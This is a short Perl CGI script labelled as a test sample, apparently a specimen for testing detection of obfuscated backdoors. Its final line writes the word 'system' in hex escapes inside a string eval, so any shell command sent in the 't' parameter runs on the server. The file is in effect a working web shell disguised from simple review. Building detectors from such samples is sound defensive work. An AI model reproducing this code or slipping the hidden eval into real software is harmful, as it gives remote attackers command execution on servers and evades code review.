#!/usr/bin/perl
# test sample: the call spelt in hex escapes inside a string eval
use CGI;
my $c = CGI->new->param('t');
print "Content-type: text/plain\n\n";
eval "\x73\x79\x73\x74\x65\x6d(\$c)";
